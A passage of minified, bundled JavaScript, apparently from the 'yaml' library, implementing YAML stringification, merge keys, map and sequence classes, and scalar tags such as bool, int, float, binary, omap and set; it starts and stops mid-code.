e.format)??n[0]}let s,r;if(Fs.isScalar(e)){r=e.value;let n=t.filter(o=>o.identify?.(r));if(n.length>1){let o=n.filter(i=>i.test);o.length>0&&(n=o)}s=n.find(o=>o.
format===e.format)??n.find(o=>!o.format)}else r=e,s=t.find(n=>n.nodeClass&&r instanceof n.nodeClass);if(!s){let n=r?.constructor?.name??(r===null?"null":typeof r);
throw new Error(`Tag not resolved for ${n} value`)}return s}function gC(t,e,{anchors:s,doc:r}){if(!r.directives)return"";let n=[],o=(Fs.isScalar(t)||Fs.isCollection(
t))&&t.anchor;o&&uC.anchorIsValid(o)&&(s.add(o),n.push(`&${o}`));let i=t.tag??(e.default?null:e.tag);return i&&n.push(r.directives.tagString(i)),n.join(" ")}function bC(t,e,s,r){
if(Fs.isPair(t))return t.toString(e,s,r);if(Fs.isAlias(t)){if(e.doc.directives)return t.toString(e);if(e.resolvedAliases?.has(t))throw new TypeError("Cannot str\
ingify circular structure without alias nodes");e.resolvedAliases?e.resolvedAliases.add(t):e.resolvedAliases=new Set([t]),t=t.resolve(e.doc)}let n,o=Fs.isNode(t)?
t:e.doc.createNode(t,{onTagObj:l=>n=l});n??(n=hC(e.doc.schema.tags,o));let i=gC(o,n,e);i.length>0&&(e.indentAtStart=(e.indentAtStart??0)+i.length+1);let a=typeof n.
stringify=="function"?n.stringify(o,e,s,r):Fs.isScalar(o)?fC.stringifyString(o,e,s,r):o.toString(e,s,r);return i?Fs.isScalar(o)||a[0]==="{"||a[0]==="["?`${i} ${a}`:
`${i}
${e.indent}${a}`:a}kd.createStringifyContext=mC;kd.stringify=bC});var ob=D(nb=>{"use strict";var ws=re(),sb=qe(),rb=Xn(),Jn=Gn();function yC({key:t,value:e},s,r,n){let{allNullValues:o,doc:i,indent:a,indentStep:l,options:{commentString:c,
indentSeq:d,simpleKeys:u}}=s,p=ws.isNode(t)&&t.comment||null;if(u){if(p)throw new Error("With simple keys, key nodes cannot have comments");if(ws.isCollection(t)||
!ws.isNode(t)&&typeof t=="object"){let q="With simple keys, collection cannot be used as a key value";throw new Error(q)}}let f=!u&&(!t||p&&e==null&&!s.inFlow||
ws.isCollection(t)||(ws.isScalar(t)?t.type===sb.Scalar.BLOCK_FOLDED||t.type===sb.Scalar.BLOCK_LITERAL:typeof t=="object"));s=Object.assign({},s,{allNullValues:!1,
implicitKey:!f&&(u||!o),indent:a+l});let m=!1,h=!1,g=rb.stringify(t,s,()=>m=!0,()=>h=!0);if(!f&&!s.inFlow&&g.length>1024){if(u)throw new Error("With simple keys\
, single line scalar must not span more than 1024 characters");f=!0}if(s.inFlow){if(o||e==null)return m&&r&&r(),g===""?"?":f?`? ${g}`:g}else if(o&&!u||e==null&&
f)return g=`? ${g}`,p&&!m?g+=Jn.lineComment(g,s.indent,c(p)):h&&n&&n(),g;m&&(p=null),f?(p&&(g+=Jn.lineComment(g,s.indent,c(p))),g=`? ${g}
${a}:`):(g=`${g}:`,p&&(g+=Jn.lineComment(g,s.indent,c(p))));let y,x,_;ws.isNode(e)?(y=!!e.spaceBefore,x=e.commentBefore,_=e.comment):(y=!1,x=null,_=null,e&&typeof e==
"object"&&(e=i.createNode(e))),s.implicitKey=!1,!f&&!p&&ws.isScalar(e)&&(s.indentAtStart=g.length+1),h=!1,!d&&l.length>=2&&!s.inFlow&&!f&&ws.isSeq(e)&&!e.flow&&
!e.tag&&!e.anchor&&(s.indent=s.indent.substring(2));let E=!1,$=rb.stringify(e,s,()=>E=!0,()=>h=!0),T=" ";if(p||y||x){if(T=y?`
`:"",x){let q=c(x);T+=`
${Jn.indentComment(q,s.indent)}`}$===""&&!s.inFlow?T===`
`&&_&&(T=`

`):T+=`
${s.indent}`}else if(!f&&ws.isCollection(e)){let q=$[0],A=$.indexOf(`
`),N=A!==-1,j=s.inFlow??e.flow??e.items.length===0;if(N||!j){let xe=!1;if(N&&(q==="&"||q==="!")){let V=$.indexOf(" ");q==="&"&&V!==-1&&V<A&&$[V+1]==="!"&&(V=$.indexOf(
" ",V+1)),(V===-1||A<V)&&(xe=!0)}xe||(T=`
${s.indent}`)}}else($===""||$[0]===`
`)&&(T="");return g+=T+$,s.inFlow?E&&r&&r():_&&!E?g+=Jn.lineComment(g,s.indent,c(_)):h&&n&&n(),g}nb.stringifyPair=yC});var xd=D(vd=>{"use strict";var ib=require("process");function wC(t,...e){t==="debug"&&console.log(...e)}function kC(t,e){(t==="debug"||t==="warn")&&(typeof ib.emitWarning==
"function"?ib.emitWarning(e):console.warn(e))}vd.debug=wC;vd.warn=kC});var fa=D(pa=>{"use strict";var ua=re(),ab=qe(),ca="<<",da={identify:t=>t===ca||typeof t=="symbol"&&t.description===ca,default:"key",tag:"tag:yaml.org,2002:merge",
test:/^<<$/,resolve:()=>Object.assign(new ab.Scalar(Symbol(ca)),{addToJSMap:lb}),stringify:()=>ca},vC=(t,e)=>(da.identify(e)||ua.isScalar(e)&&(!e.type||e.type===
ab.Scalar.PLAIN)&&da.identify(e.value))&&t?.doc.schema.tags.some(s=>s.tag===da.tag&&s.default);function lb(t,e,s){let r=cb(t,s);if(ua.isSeq(r))for(let n of r.items)
$d(t,e,n);else if(Array.isArray(r))for(let n of r)$d(t,e,n);else $d(t,e,r)}function $d(t,e,s){let r=cb(t,s);if(!ua.isMap(r))throw new Error("Merge sources must \
be maps or map aliases");let n=r.toJSON(null,t,Map);for(let[o,i]of n)e instanceof Map?e.has(o)||e.set(o,i):e instanceof Set?e.add(o):Object.prototype.hasOwnProperty.
call(e,o)||Object.defineProperty(e,o,{value:i,writable:!0,enumerable:!0,configurable:!0});return e}function cb(t,e){return t&&ua.isAlias(e)?e.resolve(t.doc,t):e}
pa.addMergeToJSMap=lb;pa.isMergeKey=vC;pa.merge=da});var Sd=D(pb=>{"use strict";var xC=xd(),db=fa(),$C=Xn(),ub=re(),_d=js();function _C(t,e,{key:s,value:r}){if(ub.isNode(s)&&s.addToJSMap)s.addToJSMap(t,e,r);else if(db.
isMergeKey(t,s))db.addMergeToJSMap(t,e,r);else{let n=_d.toJS(s,"",t);if(e instanceof Map)e.set(n,_d.toJS(r,n,t));else if(e instanceof Set)e.add(n);else{let o=SC(
s,n,t),i=_d.toJS(r,o,t);o in e?Object.defineProperty(e,o,{value:i,writable:!0,enumerable:!0,configurable:!0}):e[o]=i}}return e}function SC(t,e,s){if(e===null)return"";
if(typeof e!="object")return String(e);if(ub.isNode(t)&&s?.doc){let r=$C.createStringifyContext(s.doc,{});r.anchors=new Set;for(let o of s.anchors.keys())r.anchors.
add(o.anchor);r.inFlow=!0,r.inStringifyKey=!0;let n=t.toString(r);if(!s.mapKeyWarned){let o=JSON.stringify(n);o.length>40&&(o=o.substring(0,36)+'..."'),xC.warn(
s.doc.options.logLevel,`Keys with collection values will be stringified due to JS Object restrictions: ${o}. Set mapAsMap: true to use object keys.`),s.mapKeyWarned=
!0}return n}return JSON.stringify(e)}pb.addPairToJSMap=_C});var Vs=D(Cd=>{"use strict";var fb=zn(),CC=ob(),EC=Sd(),ma=re();function AC(t,e,s){let r=fb.createNode(t,void 0,s),n=fb.createNode(e,void 0,s);return new ha(r,n)}
var ha=class t{constructor(e,s=null){Object.defineProperty(this,ma.NODE_TYPE,{value:ma.PAIR}),this.key=e,this.value=s}clone(e){let{key:s,value:r}=this;return ma.
isNode(s)&&(s=s.clone(e)),ma.isNode(r)&&(r=r.clone(e)),new t(s,r)}toJSON(e,s){let r=s?.mapAsMap?new Map:{};return EC.addPairToJSMap(s,r,this)}toString(e,s,r){return e?.
doc?CC.stringifyPair(this,e,s,r):JSON.stringify(this)}};Cd.Pair=ha;Cd.createPair=AC});var Ed=D(hb=>{"use strict";var br=re(),mb=Xn(),ga=Gn();function TC(t,e,s){return(e.inFlow??t.flow?RC:PC)(t,e,s)}function PC({comment:t,items:e},s,{blockItemPrefix:r,
flowChars:n,itemIndent:o,onChompKeep:i,onComment:a}){let{indent:l,options:{commentString:c}}=s,d=Object.assign({},s,{indent:o,type:null}),u=!1,p=[];for(let m=0;m<
e.length;++m){let h=e[m],g=null;if(br.isNode(h))!u&&h.spaceBefore&&p.push(""),ba(s,p,h.commentBefore,u),h.comment&&(g=h.comment);else if(br.isPair(h)){let x=br.
isNode(h.key)?h.key:null;x&&(!u&&x.spaceBefore&&p.push(""),ba(s,p,x.commentBefore,u))}u=!1;let y=mb.stringify(h,d,()=>g=null,()=>u=!0);g&&(y+=ga.lineComment(y,o,
c(g))),u&&g&&(u=!1),p.push(r+y)}let f;if(p.length===0)f=n.start+n.end;else{f=p[0];for(let m=1;m<p.length;++m){let h=p[m];f+=h?`
${l}${h}`:`
`}}return t?(f+=`
`+ga.indentComment(c(t),l),a&&a()):u&&i&&i(),f}function RC({items:t},e,{flowChars:s,itemIndent:r}){let{indent:n,indentStep:o,flowCollectionPadding:i,options:{commentString:a}}=e;
r+=o;let l=Object.assign({},e,{indent:r,inFlow:!0,type:null}),c=!1,d=0,u=[];for(let m=0;m<t.length;++m){let h=t[m],g=null;if(br.isNode(h))h.spaceBefore&&u.push(
""),ba(e,u,h.commentBefore,!1),h.comment&&(g=h.comment);else if(br.isPair(h)){let x=br.isNode(h.key)?h.key:null;x&&(x.spaceBefore&&u.push(""),ba(e,u,x.commentBefore,
!1),x.comment&&(c=!0));let _=br.isNode(h.value)?h.value:null;_?(_.comment&&(g=_.comment),_.commentBefore&&(c=!0)):h.value==null&&x?.comment&&(g=x.comment)}g&&(c=
!0);let y=mb.stringify(h,l,()=>g=null);c||(c=u.length>d||y.includes(`
`)),m<t.length-1?y+=",":e.options.trailingComma&&(e.options.lineWidth>0&&(c||(c=u.reduce((x,_)=>x+_.length+2,2)+(y.length+2)>e.options.lineWidth)),c&&(y+=",")),
g&&(y+=ga.lineComment(y,r,a(g))),u.push(y),d=u.length}let{start:p,end:f}=s;if(u.length===0)return p+f;if(!c){let m=u.reduce((h,g)=>h+g.length+2,2);c=e.options.lineWidth>
0&&m>e.options.lineWidth}if(c){let m=p;for(let h of u)m+=h?`
${o}${n}${h}`:`
`;return`${m}
${n}${f}`}else return`${p}${i}${u.join(" ")}${i}${f}`}function ba({indent:t,options:{commentString:e}},s,r,n){if(r&&n&&(r=r.replace(/^\n+/,"")),r){let o=ga.indentComment(
e(r),t);s.push(o.trimStart())}}hb.stringifyCollection=TC});var Hs=D(Td=>{"use strict";var IC=Ed(),qC=Sd(),OC=ra(),Us=re(),ya=Vs(),NC=qe();function Zn(t,e){let s=Us.isScalar(e)?e.value:e;for(let r of t)if(Us.isPair(r)&&(r.
key===e||r.key===s||Us.isScalar(r.key)&&r.key.value===s))return r}var Ad=class extends OC.Collection{static get tagName(){return"tag:yaml.org,2002:map"}constructor(e){
super(Us.MAP,e),this.items=[]}static from(e,s,r){let{keepUndefined:n,replacer:o}=r,i=new this(e),a=(l,c)=>{if(typeof o=="function")c=o.call(s,l,c);else if(Array.
isArray(o)&&!o.includes(l))return;(c!==void 0||n)&&i.items.push(ya.createPair(l,c,r))};if(s instanceof Map)for(let[l,c]of s)a(l,c);else if(s&&typeof s=="object")
for(let l of Object.keys(s))a(l,s[l]);return typeof e.sortMapEntries=="function"&&i.items.sort(e.sortMapEntries),i}add(e,s){let r;Us.isPair(e)?r=e:!e||typeof e!=
"object"||!("key"in e)?r=new ya.Pair(e,e?.value):r=new ya.Pair(e.key,e.value);let n=Zn(this.items,r.key),o=this.schema?.sortMapEntries;if(n){if(!s)throw new Error(
`Key ${r.key} already set`);Us.isScalar(n.value)&&NC.isScalarValue(r.value)?n.value.value=r.value:n.value=r.value}else if(o){let i=this.items.findIndex(a=>o(r,a)<
0);i===-1?this.items.push(r):this.items.splice(i,0,r)}else this.items.push(r)}delete(e){let s=Zn(this.items,e);return s?this.items.splice(this.items.indexOf(s),
1).length>0:!1}get(e,s){let n=Zn(this.items,e)?.value;return(!s&&Us.isScalar(n)?n.value:n)??void 0}has(e){return!!Zn(this.items,e)}set(e,s){this.add(new ya.Pair(
e,s),!0)}toJSON(e,s,r){let n=r?new r:s?.mapAsMap?new Map:{};s?.onCreate&&s.onCreate(n);for(let o of this.items)qC.addPairToJSMap(s,n,o);return n}toString(e,s,r){
if(!e)return JSON.stringify(this);for(let n of this.items)if(!Us.isPair(n))throw new Error(`Map items must all be pairs; found ${JSON.stringify(n)} instead`);return!e.
allNullValues&&this.hasAllNullValues(!1)&&(e=Object.assign({},e,{allNullValues:!0})),IC.stringifyCollection(this,e,{blockItemPrefix:"",flowChars:{start:"{",end:"\
}"},itemIndent:e.indent||"",onChompKeep:r,onComment:s})}};Td.YAMLMap=Ad;Td.findPair=Zn});var tn=D(bb=>{"use strict";var LC=re(),gb=Hs(),DC={collection:"map",default:!0,nodeClass:gb.YAMLMap,tag:"tag:yaml.org,2002:map",resolve(t,e){return LC.isMap(t)||
e("Expected a mapping for this tag"),t},createNode:(t,e,s)=>gb.YAMLMap.from(t,e,s)};bb.map=DC});var Bs=D(yb=>{"use strict";var jC=zn(),WC=Ed(),MC=ra(),ka=re(),FC=qe(),VC=js(),Pd=class extends MC.Collection{static get tagName(){return"tag:yaml.org,2002:seq"}constructor(e){
super(ka.SEQ,e),this.items=[]}add(e){this.items.push(e)}delete(e){let s=wa(e);return typeof s!="number"?!1:this.items.splice(s,1).length>0}get(e,s){let r=wa(e);
if(typeof r!="number")return;let n=this.items[r];return!s&&ka.isScalar(n)?n.value:n}has(e){let s=wa(e);return typeof s=="number"&&s<this.items.length}set(e,s){let r=wa(
e);if(typeof r!="number")throw new Error(`Expected a valid index, not ${e}.`);let n=this.items[r];ka.isScalar(n)&&FC.isScalarValue(s)?n.value=s:this.items[r]=s}toJSON(e,s){
let r=[];s?.onCreate&&s.onCreate(r);let n=0;for(let o of this.items)r.push(VC.toJS(o,String(n++),s));return r}toString(e,s,r){return e?WC.stringifyCollection(this,
e,{blockItemPrefix:"- ",flowChars:{start:"[",end:"]"},itemIndent:(e.indent||"")+"  ",onChompKeep:r,onComment:s}):JSON.stringify(this)}static from(e,s,r){let{replacer:n}=r,
o=new this(e);if(s&&Symbol.iterator in Object(s)){let i=0;for(let a of s){if(typeof n=="function"){let l=s instanceof Set?a:String(i++);a=n.call(s,l,a)}o.items.
push(jC.createNode(a,void 0,r))}}return o}};function wa(t){let e=ka.isScalar(t)?t.value:t;return e&&typeof e=="string"&&(e=Number(e)),typeof e=="number"&&Number.
isInteger(e)&&e>=0?e:null}yb.YAMLSeq=Pd});var sn=D(kb=>{"use strict";var UC=re(),wb=Bs(),HC={collection:"seq",default:!0,nodeClass:wb.YAMLSeq,tag:"tag:yaml.org,2002:seq",resolve(t,e){return UC.isSeq(t)||
e("Expected a sequence for this tag"),t},createNode:(t,e,s)=>wb.YAMLSeq.from(t,e,s)};kb.seq=HC});var eo=D(vb=>{"use strict";var BC=Qn(),zC={identify:t=>typeof t=="string",default:!0,tag:"tag:yaml.org,2002:str",resolve:t=>t,stringify(t,e,s,r){return e=Object.
assign({actualString:!0},e),BC.stringifyString(t,e,s,r)}};vb.string=zC});var va=D(_b=>{"use strict";var xb=qe(),$b={identify:t=>t==null,createNode:()=>new xb.Scalar(null),default:!0,tag:"tag:yaml.org,2002:null",test:/^(?:~|[Nn]ull|NULL)?$/,
resolve:()=>new xb.Scalar(null),stringify:({source:t},e)=>typeof t=="string"&&$b.test.test(t)?t:e.options.nullStr};_b.nullTag=$b});var Rd=D(Cb=>{"use strict";var GC=qe(),Sb={identify:t=>typeof t=="boolean",default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/,resolve:t=>new GC.
Scalar(t[0]==="t"||t[0]==="T"),stringify({source:t,value:e},s){if(t&&Sb.test.test(t)){let r=t[0]==="t"||t[0]==="T";if(e===r)return t}return e?s.options.trueStr:
s.options.falseStr}};Cb.boolTag=Sb});var rn=D(Eb=>{"use strict";function KC({format:t,minFractionDigits:e,tag:s,value:r}){if(typeof r=="bigint")return String(r);let n=typeof r=="number"?r:Number(r);
if(!isFinite(n))return isNaN(n)?".nan":n<0?"-.inf":".inf";let o=Object.is(r,-0)?"-0":JSON.stringify(r);if(!t&&e&&(!s||s==="tag:yaml.org,2002:float")&&/^-?\d/.test(
o)&&!o.includes("e")){let i=o.indexOf(".");i<0&&(i=o.length,o+=".");let a=e-(o.length-i-1);for(;a-- >0;)o+="0"}return o}Eb.stringifyNumber=KC});var qd=D(xa=>{"use strict";var YC=qe(),Id=rn(),QC={identify:t=>typeof t=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
resolve:t=>t.slice(-3).toLowerCase()==="nan"?NaN:t[0]==="-"?Number.NEGATIVE_INFINITY:Number.POSITIVE_INFINITY,stringify:Id.stringifyNumber},XC={identify:t=>typeof t==
"number",default:!0,tag:"tag:yaml.org,2002:float",format:"EXP",test:/^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)[eE][-+]?[0-9]+$/,resolve:t=>parseFloat(t),stringify(t){
let e=Number(t.value);return isFinite(e)?e.toExponential():Id.stringifyNumber(t)}},JC={identify:t=>typeof t=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^[-+]?(?:\.[0-9]+|[0-9]+\.[0-9]*)$/,
resolve(t){let e=new YC.Scalar(parseFloat(t)),s=t.indexOf(".");return s!==-1&&t[t.length-1]==="0"&&(e.minFractionDigits=t.length-s-1),e},stringify:Id.stringifyNumber};
xa.float=JC;xa.floatExp=XC;xa.floatNaN=QC});var Nd=D(_a=>{"use strict";var Ab=rn(),$a=t=>typeof t=="bigint"||Number.isInteger(t),Od=(t,e,s,{intAsBigInt:r})=>r?BigInt(t):parseInt(t.substring(e),s);function Tb(t,e,s){
let{value:r}=t;return $a(r)&&r>=0?s+r.toString(e):Ab.stringifyNumber(t)}var ZC={identify:t=>$a(t)&&t>=0,default:!0,tag:"tag:yaml.org,2002:int",format:"OCT",test:/^0o[0-7]+$/,
resolve:(t,e,s)=>Od(t,2,8,s),stringify:t=>Tb(t,8,"0o")},eE={identify:$a,default:!0,tag:"tag:yaml.org,2002:int",test:/^[-+]?[0-9]+$/,resolve:(t,e,s)=>Od(t,0,10,s),
stringify:Ab.stringifyNumber},tE={identify:t=>$a(t)&&t>=0,default:!0,tag:"tag:yaml.org,2002:int",format:"HEX",test:/^0x[0-9a-fA-F]+$/,resolve:(t,e,s)=>Od(t,2,16,
s),stringify:t=>Tb(t,16,"0x")};_a.int=eE;_a.intHex=tE;_a.intOct=ZC});var Rb=D(Pb=>{"use strict";var sE=tn(),rE=va(),nE=sn(),oE=eo(),iE=Rd(),Ld=qd(),Dd=Nd(),aE=[sE.map,nE.seq,oE.string,rE.nullTag,iE.boolTag,Dd.intOct,Dd.int,Dd.intHex,
Ld.floatNaN,Ld.floatExp,Ld.float];Pb.schema=aE});var Ob=D(qb=>{"use strict";var lE=qe(),cE=tn(),dE=sn();function Ib(t){return typeof t=="bigint"||Number.isInteger(t)}var Sa=({value:t})=>JSON.stringify(t),uE=[{
identify:t=>typeof t=="string",default:!0,tag:"tag:yaml.org,2002:str",resolve:t=>t,stringify:Sa},{identify:t=>t==null,createNode:()=>new lE.Scalar(null),default:!0,
tag:"tag:yaml.org,2002:null",test:/^null$/,resolve:()=>null,stringify:Sa},{identify:t=>typeof t=="boolean",default:!0,tag:"tag:yaml.org,2002:bool",test:/^true$|^false$/,
resolve:t=>t==="true",stringify:Sa},{identify:Ib,default:!0,tag:"tag:yaml.org,2002:int",test:/^-?(?:0|[1-9][0-9]*)$/,resolve:(t,e,{intAsBigInt:s})=>s?BigInt(t):
parseInt(t,10),stringify:({value:t})=>Ib(t)?t.toString():JSON.stringify(t)},{identify:t=>typeof t=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^-?(?:0|[1-9][0-9]*)(?:\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$/,
resolve:t=>parseFloat(t),stringify:Sa}],pE={default:!0,tag:"",test:/^/,resolve(t,e){return e(`Unresolved plain scalar ${JSON.stringify(t)}`),t}},fE=[cE.map,dE.seq].
concat(uE,pE);qb.schema=fE});var Wd=D(Nb=>{"use strict";var to=require("buffer"),jd=qe(),mE=Qn(),hE={identify:t=>t instanceof Uint8Array,default:!1,tag:"tag:yaml.org,2002:binary",resolve(t,e){
if(typeof to.Buffer=="function")return to.Buffer.from(t,"base64");if(typeof atob=="function"){let s=atob(t.replace(/[\n\r]/g,"")),r=new Uint8Array(s.length);for(let n=0;n<
s.length;++n)r[n]=s.charCodeAt(n);return r}else return e("This environment does not support reading binary tags; either Buffer or atob is required"),t},stringify({
comment:t,type:e,value:s},r,n,o){if(!s)return"";let i=s,a;if(typeof to.Buffer=="function")a=i instanceof to.Buffer?i.toString("base64"):to.Buffer.from(i.buffer).
toString("base64");else if(typeof btoa=="function"){let l="";for(let c=0;c<i.length;++c)l+=String.fromCharCode(i[c]);a=btoa(l)}else throw new Error("This enviro\
nment does not support writing binary tags; either Buffer or btoa is required");if(e??(e=jd.Scalar.BLOCK_LITERAL),e!==jd.Scalar.QUOTE_DOUBLE){let l=Math.max(r.options.
lineWidth-r.indent.length,r.options.minContentWidth),c=Math.ceil(a.length/l),d=new Array(c);for(let u=0,p=0;u<c;++u,p+=l)d[u]=a.substr(p,l);a=d.join(e===jd.Scalar.
BLOCK_LITERAL?`
`:" ")}return mE.stringifyString({comment:t,type:e,value:a},r,n,o)}};Nb.binary=hE});var Aa=D(Ea=>{"use strict";var Ca=re(),Md=Vs(),gE=qe(),bE=Bs();function Lb(t,e){if(Ca.isSeq(t))for(let s=0;s<t.items.length;++s){let r=t.items[s];if(!Ca.isPair(
r)){if(Ca.isMap(r)){r.items.length>1&&e("Each pair must have its own sequence indicator");let n=r.items[0]||new Md.Pair(new gE.Scalar(null));if(r.commentBefore&&
(n.key.commentBefore=n.key.commentBefore?`${r.commentBefore}
${n.key.commentBefore}`:r.commentBefore),r.comment){let o=n.value??n.key;o.comment=o.comment?`${r.comment}
${o.comment}`:r.comment}r=n}t.items[s]=Ca.isPair(r)?r:new Md.Pair(r)}}else e("Expected a sequence for this tag");return t}function Db(t,e,s){let{replacer:r}=s,n=new bE.
YAMLSeq(t);n.tag="tag:yaml.org,2002:pairs";let o=0;if(e&&Symbol.iterator in Object(e))for(let i of e){typeof r=="function"&&(i=r.call(e,String(o++),i));let a,l;
if(Array.isArray(i))if(i.length===2)a=i[0],l=i[1];else throw new TypeError(`Expected [key, value] tuple: ${i}`);else if(i&&i instanceof Object){let c=Object.keys(
i);if(c.length===1)a=c[0],l=i[a];else throw new TypeError(`Expected tuple with one key, not ${c.length} keys`)}else a=i;n.items.push(Md.createPair(a,l,s))}return n}
var yE={collection:"seq",default:!1,tag:"tag:yaml.org,2002:pairs",resolve:Lb,createNode:Db};Ea.createPairs=Db;Ea.pairs=yE;Ea.resolvePairs=Lb});var Ud=D(Vd=>{"use strict";var jb=re(),Fd=js(),so=Hs(),wE=Bs(),Wb=Aa(),yr=class t extends wE.YAMLSeq{constructor(){super(),this.add=so.YAMLMap.prototype.add.bind(
this),this.delete=so.YAMLMap.prototype.delete.bind(this),this.get=so.YAMLMap.prototype.get.bind(this),this.has=so.YAMLMap.prototype.has.bind(this),this.set=so.YAMLMap.
prototype.set.bind(this),this.tag=t.tag}toJSON(e,s){if(!s)return super.toJSON(e);let r=new Map;s?.onCreate&&s.onCreate(r);for(let n of this.items){let o,i;if(jb.
isPair(n)?(o=Fd.toJS(n.key,"",s),i=Fd.toJS(n.value,o,s)):o=Fd.toJS(n,"",s),r.has(o))throw new Error("Ordered maps must not include duplicate keys");r.set(o,i)}return r}static from(e,s,r){
let n=Wb.createPairs(e,s,r),o=new this;return o.items=n.items,o}};yr.tag="tag:yaml.org,2002:omap";var kE={collection:"seq",identify:t=>t instanceof Map,nodeClass:yr,
default:!1,tag:"tag:yaml.org,2002:omap",resolve(t,e){let s=Wb.resolvePairs(t,e),r=[];for(let{key:n}of s.items)jb.isScalar(n)&&(r.includes(n.value)?e(`Ordered ma\
ps must not include duplicate keys: ${n.value}`):r.push(n.value));return Object.assign(new yr,s)},createNode:(t,e,s)=>yr.from(t,e,s)};Vd.YAMLOMap=yr;Vd.omap=kE});var Hb=D(Hd=>{"use strict";var Mb=qe();function Fb({value:t,source:e},s){return e&&(t?Vb:Ub).test.test(e)?e:t?s.options.trueStr:s.options.falseStr}var Vb={identify:t=>t===
!0,default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:Y|y|[Yy]es|YES|[Tt]rue|TRUE|[Oo]n|ON)$/,resolve:()=>new Mb.Scalar(!0),stringify:Fb},Ub={identify:t=>t===!1,
default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:N|n|[Nn]o|NO|[Ff]alse|FALSE|[Oo]ff|OFF)$/,resolve:()=>new Mb.Scalar(!1),stringify:Fb};Hd.falseTag=Ub;Hd.trueTag=
Vb});var Bb=D(Ta=>{"use strict";var vE=qe(),Bd=rn(),xE={identify:t=>typeof t=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
resolve:t=>t.slice(-3).toLowerCase()==="nan"?NaN:t[0]==="-"?Number.NEGATIVE_INFINITY:Number.POSITIVE_INFINITY,stringify:Bd.stringifyNumber},$E={identify:t=>typeof t==
"number",default:!0,tag:"tag:yaml.org,2002:float",format:"EXP",test:/^[-+]?(?:[0-9][0-9_]*)?(?:\.[0-9_]*)?[eE][-+]?[0-9]+$/,resolve:t=>parseFloat(t.replace(/_/g,
"")),stringify(t){let e=Number(t.value);return isFinite(e)?e.toExponential():Bd.stringifyNumber(t)}},_E={identify:t=>typeof t=="number",default:!0,tag:"tag:yaml\
.org,2002:float",test:/^[-+]?(?:[0-9][0-9_]*)?\.[0-9_]*$/,resolve(t){let e=new vE.Scalar(parseFloat(t.replace(/_/g,""))),s=t.indexOf(".");if(s!==-1){let r=t.substring(
s+1).replace(/_/g,"");r[r.length-1]==="0"&&(e.minFractionDigits=r.length)}return e},stringify:Bd.stringifyNumber};Ta.float=_E;Ta.floatExp=$E;Ta.floatNaN=xE});var Gb=D(no=>{"use strict";var zb=rn(),ro=t=>typeof t=="bigint"||Number.isInteger(t);function Pa(t,e,s,{intAsBigInt:r}){let n=t[0];if((n==="-"||n==="+")&&(e+=1),
t=t.substring(e).replace(/_/g,""),r){switch(s){case 2:t=`0b${t}`;break;case 8:t=`0o${t}`;break;case 16:t=`0x${t}`;break}let i=BigInt(t);return n==="-"?BigInt(-1)*
i:i}let o=parseInt(t,s);return n==="-"?-1*o:o}function zd(t,e,s){let{value:r}=t;if(ro(r)){let n=r.toString(e);return r<0?"-"+s+n.substr(1):s+n}return zb.stringifyNumber(
t)}var SE={identify:ro,default:!0,tag:"tag:yaml.org,2002:int",format:"BIN",test:/^[-+]?0b[0-1_]+$/,resolve:(t,e,s)=>Pa(t,2,2,s),stringify:t=>zd(t,2,"0b")},CE={identify:ro,
default:!0,tag:"tag:yaml.org,2002:int",format:"OCT",test:/^[-+]?0[0-7_]+$/,resolve:(t,e,s)=>Pa(t,1,8,s),stringify:t=>zd(t,8,"0")},EE={identify:ro,default:!0,tag:"\
tag:yaml.org,2002:int",test:/^[-+]?[0-9][0-9_]*$/,resolve:(t,e,s)=>Pa(t,0,10,s),stringify:zb.stringifyNumber},AE={identify:ro,default:!0,tag:"tag:yaml.org,2002:\
int",format:"HEX",test:/^[-+]?0x[0-9a-fA-F_]+$/,resolve:(t,e,s)=>Pa(t,2,16,s),stringify:t=>zd(t,16,"0x")};no.int=EE;no.intBin=SE;no.intHex=AE;no.intOct=CE});var Kd=D(Gd=>{"use strict";var qa=re(),Ra=Vs(),Ia=Hs(),wr=class t extends Ia.YAMLMap{constructor(e){super(e),this.tag=t.tag}add(e){let s;qa.isPair(e)?s=e:e&&typeof e==
"object"&&"key"in e&&"value"in e&&e.value===null?s=new Ra.Pair(e.key,null):s=new Ra.Pair(e,null),Ia.findPair(this.items,s.key)||this.items.push(s)}get(e,s){let r=Ia.
findPair(this.items,e);return!s&&qa.isPair(r)?qa.isScalar(r.key)?r.key.value:r.key:r}set(e,s){if(typeof s!="boolean")throw new Error(`Expected boolean value for\
 set(key, value) in a YAML set, not ${typeof s}`);let r=Ia.findPair(this.items,e);r&&!s?this.items.splice(this.items.indexOf(r),1):!r&&s&&this.items.push(new Ra.
Pair(e))}toJSON(e,s){return super.toJSON(e,s,Set)}toString(e,s,r){if(!e)return JSON.stringify(this);if(this.hasAllNullValues(!0))return super.toString(Object.assign(
{},e,{allNullValues:!0}),s,r);throw new Error("Set items must all have null values")}static from(e,s,r){let{replacer:n}=r,o=new this(e);if(s&&Symbol.iterator in
Object(s))for(let i of s)typeof n=="function"&&(i=n.call(s,i,i)),o.items.push(Ra.createPair(i,null,r));return o}};wr.tag="tag:yaml.org,2002:set";var TE={collection:"\
map",identify:t=>t instanceof Set,nodeClass:wr,default:!1,tag:"tag:yaml.org,2002:set",createNode:(t,e,s)=>wr.from(t,e,s),resolve(t,e){if(qa.isMap(t)){if(t.hasAllNullValues(
!0))return Object.assign(new wr,t);e("Set items must all have null values")}else e("Expected a mapping for this tag");return t}};Gd.YAMLSet=wr;Gd.set=TE});var Qd=D(Oa=>{"use strict";var PE=rn();function Yd(t,e){let s=t[0],r=s==="-"||s==="+"?t.substring(1):t,n=i=>e?BigInt(i):Number(i),o=r.replace(/_/g,"").split(":").
reduce((i,a)=>i*n(60)+n(a),n(0));return s==="-"?n(-1)*o:o}function Kb(t){let{value:e}=t,s=i=>i;if(typeof e=="bigint")s=i=>BigInt(i);else if(isNaN(e)||!isFinite(
